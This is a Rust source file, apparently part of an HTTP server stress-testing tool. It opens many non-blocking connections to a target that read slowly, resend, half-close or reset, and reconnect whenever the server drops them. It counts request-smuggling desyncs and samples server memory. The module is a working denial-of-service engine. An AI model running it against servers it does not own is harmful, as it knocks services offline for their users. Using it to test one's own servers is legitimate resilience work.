//! Many connections that follow one tactic. One thread moves them all; whoever is closed by the server comes again.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, SockRef, Socket, Type};

use crate::report::memory_of;
use crate::tactics::{Ending, Reading, Tactic};

/// Many connections that follow one tactic.
pub(crate) struct Crowd<'a> {
    target: SocketAddr,
    tactic: &'a Tactic,
    peers: Vec<Option<Peer>>,
    outcome: Outcome,
}

/// What came of an attack.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Outcome {
    /// Connections opened.
    pub(crate) opened: usize,
    /// Of them, closed by the server.
    pub(crate) ended: usize,
    /// Connections on which a second request was found where there is none.
    pub(crate) desyncs: usize,
    /// The most memory of the server seen, in bytes.
    pub(crate) memory: Option<u64>,
}

/// One connection of the crowd.
struct Peer {
    stream: TcpStream,
    /// What is to be sent, and how much of it was.
    bytes: Vec<u8>,
    sent: usize,
    /// When to send again.
    again_at: Instant,
    has_half_closed: bool,
    /// The first bytes that were answered.
    answer: Vec<u8>,
}

/// Time from one turn of all connections to the next.
const TURN: Duration = Duration::from_millis(20);

/// Bytes that one connection sends or reads in a turn, at most.
const MOST_AT_A_TURN: usize = 64 << 10;

/// Bytes of an answer that are looked at.
const ANSWER_BYTES: usize = 4 << 10;

impl<'a> Crowd<'a> {
    pub(crate) fn new(target: SocketAddr, tactic: &'a Tactic, connections: usize) -> Crowd<'a> {
        let peers = (0..connections * tactic.times).map(|_| None).collect();
        Crowd { target, tactic, peers, outcome: Outcome::default() }
    }

    /// Attacks for so long.
    pub(crate) fn attack(mut self, time: Duration, pid: Option<u32>) -> Outcome {
        let until = Instant::now() + time;
        while Instant::now() < until {
            for place in 0..self.peers.len() {
                self.turn(place);
            }
            self.outcome.memory = self.outcome.memory.max(pid.and_then(memory_of));
            thread::sleep(TURN);
        }
        if self.tactic.is_desync {
            let left = self.peers.iter().flatten();
            self.outcome.desyncs += left.filter(|peer| peer.has_two_answers()).count();
        }
        self.outcome
    }

    /// Moves one connection, which may come to its end, or opens one in its place.
    fn turn(&mut self, place: usize) {
        let Some(peer) = &mut self.peers[place] else {
            let first = &self.tactic.first[self.outcome.opened % self.tactic.first.len()];
            // Where there is no socket left, the next turn tries again.
            if let Ok(peer) = Peer::open(self.target, first, self.tactic.reading) {
                self.outcome.opened += 1;
                self.peers[place] = Some(peer);
            }
            return;
        };
        let is_over = peer.go_on(self.tactic).is_err();
        let resets = self.tactic.ending == Ending::Resets && peer.has_sent_all();
        if is_over {
            self.outcome.ended += 1;
            self.outcome.desyncs += usize::from(self.tactic.is_desync && peer.has_two_answers());
        }
        if is_over || resets {
            self.peers[place] = None;
        }
    }
}

impl Peer {
    fn open(target: SocketAddr, first: &[u8], reading: Reading) -> io::Result<Peer> {
        let socket = Socket::new(Domain::for_address(target), Type::STREAM, None)?;
        socket.set_nonblocking(true)?;
        if reading == Reading::Slow {
            socket.set_recv_buffer_size(1)?;
        }
        // Whoever leaves resets: closing in peace would leave a socket of this machine waiting for each.
        socket.set_linger(Some(Duration::ZERO))?;
        match socket.connect(&target.into()) {
            Err(error) if !is_under_way(&error) => return Err(error),
            _ => {}
        }
        Ok(Peer {
            stream: socket.into(),
            bytes: first.to_vec(),
            sent: 0,
            again_at: Instant::now(),
            has_half_closed: false,
            answer: Vec::new(),
        })
    }

    fn has_sent_all(&self) -> bool {
        self.sent == self.bytes.len()
    }

    fn has_two_answers(&self) -> bool {
        self.answer.windows(9).filter(|nine| *nine == b"HTTP/1.1 ").count() > 1
    }

    /// Sends and reads what is to be sent and read by now.
    ///
    /// # Errors
    /// The server has closed.
    fn go_on(&mut self, tactic: &Tactic) -> io::Result<()> {
        let now = Instant::now();
        if self.has_sent_all()
            && self.again_at <= now
            && let Some((bytes, often)) = &tactic.again
        {
            self.bytes.clone_from(bytes);
            self.sent = 0;
            self.again_at = now + *often;
        }
        let mut budget = MOST_AT_A_TURN;
        while !self.has_sent_all() && budget > 0 {
            let Some(count) = unless_blocked(self.stream.write(&self.bytes[self.sent..]))? else {
                break;
            };
            self.sent += count;
            budget = budget.saturating_sub(count);
            if self.has_sent_all()
                && let Some((bytes, Duration::ZERO)) = &tactic.again
            {
                self.bytes.clone_from(bytes);
                self.sent = 0;
            }
        }
        if tactic.ending == Ending::HalfCloses && self.has_sent_all() && !self.has_half_closed {
            self.has_half_closed = self.stream.shutdown(Shutdown::Write).is_ok();
        }
        match tactic.reading {
            Reading::All => self.read(MOST_AT_A_TURN),
            Reading::Slow => self.read(1),
            // That the server has closed shows in what can be sent no more, or as an error of the socket.
            Reading::Never => SockRef::from(&self.stream).take_error()?.map_or(Ok(()), Err),
        }
    }

    fn read(&mut self, most: usize) -> io::Result<()> {
        let mut chunk = [0; 4_096];
        let mut budget = most;
        while budget > 0 {
            let end = budget.min(chunk.len());
            let Some(count) = unless_blocked(self.stream.read(&mut chunk[..end]))? else { break };
            if count == 0 {
                return Err(ErrorKind::UnexpectedEof.into());
            }
            let room = ANSWER_BYTES - self.answer.len();
            self.answer.extend_from_slice(&chunk[..count.min(room)]);
            budget -= count;
        }
        Ok(())
    }
}

/// `None` where the socket has nothing to give or no room, or is not connected yet.
fn unless_blocked(moved: io::Result<usize>) -> io::Result<Option<usize>> {
    match moved {
        Ok(count) => Ok(Some(count)),
        Err(error) if is_under_way(&error) => Ok(None),
        Err(error) => Err(error),
    }
}

fn is_under_way(error: &io::Error) -> bool {
    /// EINPROGRESS of Linux and of macOS.
    const IN_PROGRESS: [i32; 2] = [115, 36];
    matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted | ErrorKind::NotConnected)
        || error.raw_os_error().is_some_and(|code| cfg!(unix) && IN_PROGRESS.contains(&code))
}
